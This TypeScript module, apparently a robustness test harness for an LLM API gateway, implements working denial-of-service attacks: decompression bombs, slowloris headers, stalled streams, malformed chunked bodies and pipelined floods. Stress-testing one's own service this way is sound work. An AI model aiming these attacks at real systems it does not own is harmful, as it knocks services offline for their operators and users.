import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { bytesOf, compressed, hostileBodies, hostileForm } from './bodies.ts';

/** The target of the attack, and its credential. */
export interface Victim {
  url: string;
  /** The attacker's own key. */
  key: string;
  /** Where a connection to the account's events is opened; null: there is none. */
  eventsPath: string | null;
}

export interface Scale {
  /** Of each hostile body. */
  sizeMiB: number;
  readers: number;
  streams: number;
  slowUpstreams: number;
  slowloris: number;
  bombs: number;
}

export const fullScale: Scale = {
  sizeMiB: 31,
  readers: 1_000,
  streams: 1_000,
  slowUpstreams: 256,
  slowloris: 1_000,
  bombs: 60,
};

/** Runs until the signal; all that it opened is closed then. */
export type Attack = (victim: Victim, scale: Scale, signal: AbortSignal) => Promise<void>;

export const attacks: Readonly<Record<string, Attack>> = {
  'hostile bodies': (victim, scale, signal) =>
    inTurn(signal, Object.values(hostileBodies), (make) =>
      post(victim, { body: Buffer.from(make(bytesOf(scale.sizeMiB)), 'latin1'), signal }),
    ),
  'hostile bodies, compressed': (victim, scale, signal) => compressedBodies(victim, scale, signal),
  'hostile forms': (victim, scale, signal) =>
    inTurn(signal, [0], () => {
      const { contentType, body } = hostileForm(bytesOf(scale.sizeMiB));
      return post(victim, { path: '/v1/files', body: Buffer.from(body), contentType, signal });
    }),
  'compressed bombs': (victim, scale, signal) => bombs(victim, scale, signal),
  'slow readers': (victim, scale, signal) => many(scale.readers, signal, () => openStream(victim, 'flood')),
  'event streams': (victim, scale, signal) => many(scale.streams, signal, () => openEvents(victim)),
  'slow upstreams': (victim, scale, signal) => many(scale.slowUpstreams, signal, () => openStream(victim, 'never')),
  'slow heads': (victim, scale, signal) => many(scale.slowloris, signal, () => trickle(victim)),
  'malformed chunks': (victim, _scale, signal) =>
    inTurn(signal, [...malformed, ...malformed], (bytes) => shout(victim, bytes, signal)),
  'pipelined floods': (victim, _scale, signal) => many(50, signal, () => pipeline(victim)),
};

interface Post {
  path?: string;
  body: Buffer;
  contentType?: string;
  encoding?: string;
  signal: AbortSignal;
}

/** One request whose answer does not matter. */
function post(
  { url, key }: Victim,
  { path = '/v1/chat/completions', body, contentType = 'application/json', encoding, signal }: Post,
): Promise<void> {
  return new Promise((resolve) => {
    const headers = {
      authorization: `Bearer ${key}`,
      'content-type': contentType,
      'content-length': body.length,
      ...(encoding === undefined ? {} : { 'content-encoding': encoding }),
    };
    const sent = request(url + path, { method: 'POST', headers, agent: false, signal }, (reply) => {
      reply.resume();
      reply.on('error', () => undefined);
    });
    sent.on('error', () => undefined);
    sent.on('close', resolve);
    sent.end(body);
  });
}

/** One after the other and from the start again, two at a time. */
async function inTurn<Item>(
  signal: AbortSignal,
  items: readonly Item[],
  act: (item: Item) => Promise<void>,
): Promise<void> {
  const one = async (first: number): Promise<void> => {
    for (let index = first; !signal.aborted; index += 1) {
      const item = items[index % items.length];
      if (item !== undefined) await act(item);
      // What is refused at once would be a loop without a pause.
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
  };
  await Promise.all([one(0), one(Math.floor(items.length / 2))]);
}

async function compressedBodies(victim: Victim, { sizeMiB }: Scale, signal: AbortSignal): Promise<void> {
  const made = new Map<string, Buffer>();
  await inTurn(signal, Object.entries(hostileBodies), ([name, make]) => {
    const encoding = name.length % 2 === 0 ? 'br' : 'gzip';
    const body = made.get(name) ?? compressed(make(bytesOf(sizeMiB)), encoding);
    made.set(name, body);
    return post(victim, { body, encoding, signal });
  });
}

async function bombs(victim: Victim, { sizeMiB, bombs: count }: Scale, signal: AbortSignal): Promise<void> {
  const make = hostileBodies['a prompt'];
  if (!make) return;
  const body = compressed(make(bytesOf(sizeMiB)), 'br');
  const one = async (): Promise<void> => {
    while (!signal.aborted) {
      await post(victim, { body, encoding: 'br', signal });
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  };
  await Promise.all(Array.from({ length: count }, one));
}

/** So many at once, each opened again when it is closed, a little later. */
async function many(count: number, signal: AbortSignal, open: () => Socket): Promise<void> {
  const sockets = new Set<Socket>();
  const start = (): void => {
    if (signal.aborted) return;
    const socket = open();
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('close', () => {
      sockets.delete(socket);
      setTimeout(start, 200);
    });
  };
  for (let number = 0; number < count && !signal.aborted; number += 1) {
    start();
    // As fast as connections are taken, but not all in one turn of the loop.
    if (number % 50 === 49) await new Promise((resolve) => setTimeout(resolve, 10));
  }
  await new Promise<void>((resolve) => {
    if (signal.aborted) resolve();
    else signal.addEventListener('abort', () => resolve(), { once: true });
  });
  for (const socket of sockets) socket.destroy();
}

function openRaw({ url }: Victim, text: string): Socket {
  const { hostname, port } = new URL(url);
  const socket = connect({ host: hostname, port: Number(port) }, () => void socket.write(text, 'latin1'));
  return socket;
}

function headOf({ url, key }: Victim, line: string, more: readonly string[]): string {
  return [`${line} HTTP/1.1`, `host: ${new URL(url).host}`, `authorization: Bearer ${key}`, ...more].join('\r\n');
}

/** A call whose stream is asked for and never read. */
function openStream(victim: Victim, prompt: 'flood' | 'never'): Socket {
  const body = JSON.stringify({
    model: 'bench-model',
    stream: true,
    max_tokens: 2_000,
    messages: [{ role: 'user', content: prompt }],
  });
  const head = headOf(victim, 'POST /v1/chat/completions', [
    'content-type: application/json',
    `content-length: ${body.length}`,
  ]);
  const socket = openRaw(victim, `${head}\r\n\r\n${body}`);
  socket.pause();
  return socket;
}

function openEvents(victim: Victim): Socket {
  const socket = openRaw(victim, `${headOf(victim, `GET ${victim.eventsPath ?? '/healthz'}`, [])}\r\n\r\n`);
  socket.resume();
  return socket;
}

/** A head that comes letter by letter. */
function trickle(victim: Victim): Socket {
  const socket = openRaw(victim, 'GET /healthz HTTP/1.1\r\nx-slow: ');
  socket.resume();
  const timer = setInterval(() => socket.write('a'), 500);
  socket.on('close', () => clearInterval(timer));
  return socket;
}

/** Requests without a pause, whose answers are not read. */
function pipeline(victim: Victim): Socket {
  const body = '{"model":';
  const requests =
    `${headOf(victim, 'GET /healthz', [])}\r\n\r\n` +
    `${headOf(victim, 'POST /v1/chat/completions', ['content-type: application/json', `content-length: ${body.length}`])}\r\n\r\n${body}`;
  const socket = openRaw(victim, requests.repeat(100));
  socket.pause();
  return socket;
}

const chunkedHead = ['content-type: application/json', 'transfer-encoding: chunked'];
const malformed = [
  '-1\r\n',
  'zz\r\n',
  'ffffffffffffffffff\r\n',
  `5;${'x'.repeat(30_000)}\r\nhello\r\n`,
  '5\r\nhelloo\r\n',
  '5\nhello\n',
  '\0\r\n',
  '1\r\n{\r\n'.repeat(5_000),
];

function shout(victim: Victim, chunks: string, signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    const socket = openRaw(victim, `${headOf(victim, 'POST /v1/chat/completions', chunkedHead)}\r\n\r\n${chunks}`);
    const end = (): void => void socket.destroy();
    socket.resume();
    socket.setTimeout(1_000, end);
    signal.addEventListener('abort', end, { once: true });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      signal.removeEventListener('abort', end);
      resolve();
    });
  });
}
